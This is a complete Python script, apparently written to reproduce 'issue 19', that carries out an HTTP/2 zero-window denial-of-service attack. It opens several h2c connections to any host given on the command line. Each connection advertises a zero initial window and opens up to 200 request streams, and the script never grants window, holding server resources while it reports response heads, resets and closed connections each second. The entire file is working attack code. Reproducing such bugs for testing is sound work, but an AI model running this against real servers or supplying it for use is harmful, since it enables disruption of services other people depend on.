#!/usr/bin/env python3
"""The zero-window attack of issue 19: CONNS h2c connections, each announcing
SETTINGS_INITIAL_WINDOW_SIZE = 0 and opening STREAMS requests for PATH, never
granting a byte of window. Prints, once a second, the response heads received and
the streams the server reset. Needs Python's `h2` (pip install h2).

usage: zero-window.py HOST PORT PATH [CONNS] [STREAMS] [SECONDS]
"""
import selectors
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings


def open_conn(host, port, path, streams):
    sock = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings = h2.settings.Settings(client=True, initial_values={
        h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0,
        h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000,
    })
    conn.initiate_connection()
    for _ in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"),
                                (":authority", f"{host}:{port}"), (":path", path)],
                          end_stream=True)
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    conns = int(sys.argv[4]) if len(sys.argv) > 4 else 6
    streams = int(sys.argv[5]) if len(sys.argv) > 5 else 200
    seconds = float(sys.argv[6]) if len(sys.argv) > 6 else 30
    sel = selectors.DefaultSelector()
    count = {"heads": 0, "resets": 0, "closed": 0}
    for _ in range(conns):
        sock, conn = open_conn(host, port, path, streams)
        sel.register(sock, selectors.EVENT_READ, conn)
    start = time.monotonic()
    next_report = start + 1
    while time.monotonic() - start < seconds:
        for key, _ in sel.select(timeout=0.1):
            sock, conn = key.fileobj, key.data
            try:
                data = sock.recv(65536)
            except (BlockingIOError, ConnectionResetError):
                data = b"" if not isinstance(sys.exc_info()[1], BlockingIOError) else None
            if data is None:
                continue
            if not data:
                sel.unregister(sock)
                count["closed"] += 1
                continue
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    count["heads"] += 1
                elif isinstance(event, h2.events.StreamReset):
                    count["resets"] += 1
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        if time.monotonic() >= next_report:
            next_report += 1
            print(f"t={time.monotonic() - start:.0f}s heads={count['heads']} "
                  f"resets={count['resets']} closed={count['closed']}", flush=True)


if __name__ == "__main__":
    main()
